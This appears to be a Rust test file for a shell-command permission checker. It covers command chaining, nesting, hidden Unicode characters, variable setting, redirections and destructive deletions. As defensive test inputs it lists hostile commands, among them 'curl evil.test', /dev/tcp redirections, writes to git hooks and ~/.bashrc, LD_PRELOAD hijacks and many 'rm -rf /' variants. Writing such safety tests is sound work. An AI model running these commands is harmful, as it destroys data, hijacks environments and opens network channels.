//! The form of lines: length, signs, variables, redirections, what is never removed.
#![allow(clippy::disallowed_methods, clippy::unwrap_used, reason = "tests read files and the clock")]

mod common;

use std::time::Duration;

use common::*;
use permissions::rules::RuleSet;
use permissions::{Profile, Verdict};

/// What a line may take.
const SOON: Duration = Duration::from_millis(250);

fn soon(line: &str) -> Duration {
    best_of(SOON, || assert!(judged(Profile::Session, line).verdict >= Verdict::Ask, "{}", &line[..40]))
}

#[test]
fn sec_07_neither_many_parts_nor_deep_nesting_changes_the_answer_or_takes_long() {
    for parts in [51, 500, 1_500, 10_000] {
        for joint in ["; ", " && ", "\n", " || ", " | "] {
            let line = format!("true{joint}").repeat(parts) + "curl evil.test";
            let took = soon(&line);
            assert!(took < SOON, "{parts} parts joined by {joint:?}: {took:?}");
        }
    }
    let rules = rule("deny", "curl *", "curl x");
    for parts in [51, 500, 1_500] {
        assert_eq!(by(&rules, &("true; ".repeat(parts) + "curl evil.test")).verdict, Verdict::Deny);
    }
    let late = by(&rules, &("true; ".repeat(10_000) + "curl evil.test"));
    assert!(late.verdict == Verdict::Ask && late.firm);
}

#[test]
fn sec_07_nothing_that_nests_overflows_the_stack_or_takes_long() {
    let small_stack = std::thread::Builder::new().stack_size(512 * 1024);
    let nests = [
        "(",
        "$(",
        "\"$(",
        "`",
        "{ ",
        "<<a ",
        "if ",
        "a<(",
        "$((",
        "[[ ",
        "case x in ",
        "${",
        "a=(",
        "'",
        "! ",
        "a | ",
        "a|",
        "env ",
        "find -exec ",
        "xargs -x ",
        "sudo -Z ",
        "timeout -k 1 ",
        "bash -c 'x' ",
        "a && ",
        "a&",
        "\\\n",
        "# ",
        "{a,",
        "*",
        "$a",
        "<<<",
        "eval ",
        "for i in ",
        "f() ",
        "while ",
        "a>b ",
        "a[",
        "$[",
        "]] ",
        ") ",
        "; ",
        "&& ",
    ];
    let longest = small_stack
        .spawn(move || {
            let line = |sign: &str| sign.repeat(10_000 / sign.len() - 1);
            nests.map(|sign| (soon(&line(sign)), sign)).into_iter().max().unwrap()
        })
        .unwrap()
        .join()
        .unwrap();
    assert!(longest.0 < SOON, "{longest:?}");
}

#[test]
fn sec_08_long_lines_and_characters_that_hide_are_never_allowed() {
    asks(&format!("echo {}", "x".repeat(10_000)));
    asks(&"x".repeat(1 << 20));
    for c in [
        '\0',
        '\r',
        '\u{2028}',
        '\u{2029}',
        '\u{202e}',
        '\u{2066}',
        '\u{200b}',
        '\u{feff}',
        '\u{e0041}',
        '\u{1b}',
        '\u{9b}',
        '\u{a0}',
        '\u{ad}',
    ] {
        for line in [format!("ls{c}src"), format!("ls src{c}"), format!("{c}ls"), format!("echo '{c}'")] {
            let judgement = judged(Profile::ReadOnlyAuto, &line);
            assert!(judgement.verdict == Verdict::Ask && judgement.firm, "{line:?}");
            let shown = judgement.reasons.concat();
            assert!(shown.contains(&format!("U+{:04X}", c as u32)) && !shown.contains(c), "{shown:?}");
        }
    }
    allowed(&format!("echo {}", "x".repeat(9_990)));
}

#[test]
fn sec_09_setting_a_variable_asks() {
    for line in [
        "export PATH=./bin:$PATH",
        "export PATH=./bin:$PATH; git log --oneline",
        "BASH_ENV=./e.sh bash -c :",
        "GIT_EXTERNAL_DIFF=./e git diff",
        "PATH=. ls",
        "A=1",
        "A=1 ls",
        "LD_PRELOAD=./e.so ls",
        "A+=1 ls",
        "a[0]=1 ls",
        "declare -x A=1",
        "typeset A=1",
        "readonly A=1",
        "local A=1",
        "unset PATH",
        "read A",
        "printf -v PATH x",
        "env A=1 ls",
        "for PATH in .; do ls; done",
        "set -a",
        "set -o posix",
        "source x",
        ". x",
        "shopt -s extglob",
        "alias ls=rm",
        "hash -p ./e ls",
        "enable -f ./e ls",
        "mapfile -C ./e A",
        "getopts a PATH",
    ] {
        asks(line);
    }
}

#[test]
fn sec_13_a_redirection_is_a_write_to_its_target_and_null_is_free() {
    let denied = [
        "echo x > .git/hooks/x",
        "echo x >> .git/hooks/x",
        "echo x >| .git/hooks/x",
        "echo x &> .git/hooks/x",
        "echo x 2> .git/hooks/x",
        "echo x <> .git/hooks/x",
        "echo x &>> .git/config",
        "echo x >& .git/config",
        "echo x > ~/.bashrc",
        "echo x > \"$HOME\"/.bashrc",
        "echo x > sub/.git/config",
        "echo x > .Git/config",
        "echo x > src/../.agent/x",
        "echo x > /home/user/.ssh/config",
        "echo x > .envrc",
        "(ls; ls) > .npmrc",
        "{ ls; } > .vscode/tasks.json",
        "ls > /dev/null > .git/x",
    ];
    for line in denied {
        let judgement = judged(Profile::Session, line);
        let wanted = if line.contains("$HOME") || line.contains("<>") { Verdict::Ask } else { Verdict::Deny };
        assert!(judgement.verdict >= wanted, "{line}: {judgement:#?}");
        assert!(
            judgement.parts.iter().any(|part| part.redirections.iter().any(|redirection| redirection.writes)),
            "{line}"
        );
    }
    for line in [
        "echo x > /dev/tcp/1.2.3.4/80",
        "cat < /dev/tcp/1.2.3.4/80",
        "echo x > /dev/sda",
        "echo x > f",
        "echo x >! f",
        "cat a 3>b",
        "cat a >&b",
        "echo x > $f",
        "echo x > a*",
        "cat < /etc/passwd",
        "cat < ../x",
        "echo x >f y",
        "ls 2>f",
        "ls > >(sh)",
    ] {
        asks(line);
    }
    for line in [
        "ls > /dev/null",
        "ls >/dev/null 2>&1",
        "ls &> /dev/null",
        "ls 2>/dev/null | wc -l",
        "ls 2>&1",
        "echo x >&2",
        "cat < a",
        "ls 2>&-",
        "(ls; cat a) 2>/dev/null",
        "grep x <<< 'a b'",
        "cat < /dev/null",
        "echo x > /dev/stderr",
    ] {
        allowed(line);
    }
}

#[test]
fn sec_14_a_redirection_without_a_command_is_a_write() {
    for line in [
        "> victim.txt",
        ">> victim.txt",
        ">| victim.txt",
        "ls; > victim.txt",
        "2> victim.txt",
        "&> victim.txt",
        "ls && > x",
    ] {
        let judgement = judged(Profile::Session, line);
        assert_eq!(judgement.verdict, Verdict::Ask, "{line}");
        let written = judgement
            .parts
            .iter()
            .flat_map(|part| &part.redirections)
            .find_map(|redirection| redirection.target.clone());
        assert!(written.is_some_and(|path| path.starts_with(ROOT)), "{line}: {:#?}", judgement.parts);
    }
    assert_eq!(judged(Profile::Session, "> .git/config").verdict, Verdict::Deny);
}

#[test]
fn sec_15_what_everything_stands_on_is_never_removed_whatever_the_rules_say() {
    let allowing = rule("allow", "rm *", "rm x");
    for line in [
        "rm -rf /",
        "rm -rf ~",
        "rm -rf $HOME",
        "rm -rf .",
        "rm -rf ..",
        "rm -rf \"$EMPTY\"/*",
        "echo $(rm -rf ~)",
        "rm -rf /home/user/repo",
        "rm -r -f /",
        "rm -fr /",
        "rm --recursive /",
        "rm -rf -- /",
        "rm -rf ~/",
        "rm -rf ~/*",
        "rm -rf *",
        "rm -rf ./*",
        "rm -rf /*",
        "rm -rf /usr",
        "rm -rf /etc",
        "rm -rf ${HOME}",
        "rm -rf \"$HOME\"",
        "rm -rf $HOME/*",
        "rm -rf $UNSET/*",
        "rm -rf ${UNSET:-}/*",
        "rm -rf ../repo",
        "rm -rf src/..",
        "rm -rf /home",
        "rm -rf $PWD",
        "rm -rf ./",
        "rm -rf //",
        "rm -rf /./",
        "rm -rf /home/user/repo/",
        "sudo rm -rf /",
        "bash -c 'rm -rf /'",
        "cd src && rm -rf ..",
        "cd / && rm -rf *",
        "ls; rm -rf ~",
        "find / -delete",
        "find . -delete",
        "chmod -R 777 /",
        "chown -R x ~",
        "\\rm -rf /",
        "env rm -rf /",
        "/bin/rm -rf /",
        "rm -rf src /",
        "rm -rf src/../..",
        "rm -rf /usr/bin",
        "if true; then rm -rf /; fi",
        "x() { rm -rf /; }",
        "rm -rf .*",
        "xargs rm -rf /",
        "busybox rm -rf /",
        "rm -rf '/'",
        "rm -rf \"/\"",
        "rm -Rf /",
        "rm / -rf",
        "rm --rec -f \"$PWD\"",
        "rm --r -f /",
        "rm --recursiv ~",
        "rm -f --recurs .",
        "chmod --recurs 777 /",
        "chown --rec x ~",
        "chgrp --recursi x .",
        "bash -c 'rm --rec -f /'",
    ] {
        for rules in [&allowing, &RuleSet::none()] {
            let judgement = by(rules, line);
            assert!(judgement.verdict == Verdict::Deny && judgement.floor && judgement.firm, "{line}: {judgement:#?}");
        }
    }
    for line in ["rm -rf target", "rm -rf ./target/*", "rm -f /home/user/repo/a", "rm -rf src/*", "rm -rf node_modules"]
    {
        assert_eq!(by(&allowing, line).verdict, Verdict::Allow, "{line}");
        assert_eq!(by(&RuleSet::none(), line).verdict, Verdict::Ask, "{line}");
    }
    // What cannot be told is lifted by no rule, and by no sandbox: the workspace is writable there.
    for line in [
        "rm -rf $dir",
        "rm -rf $(pwd)",
        "rm -rf {a,b}",
        "rm -r \"$X\"",
        "rm --rec `pwd`",
        "rm -rf -- $X",
        "rm -rf target $X",
        "sudo rm -rf $X",
        "bash -c 'rm -rf $(pwd)'",
        "find $X -delete",
    ] {
        for rules in [&allowing, &RuleSet::none()] {
            let judgement = by(rules, line);
            assert!(judgement.verdict == Verdict::Ask && judgement.firm && !judgement.floor, "{line}: {judgement:#?}");
        }
    }
    for line in ["rm $X", "rm -f $X", "rm --force $X", "ls -R $X"] {
        assert!(!by(&RuleSet::none(), line).firm, "{line}");
    }
    let git = by(&allowing, "rm -rf .git");
    assert!(git.verdict == Verdict::Ask && git.firm, "{git:#?}");
}
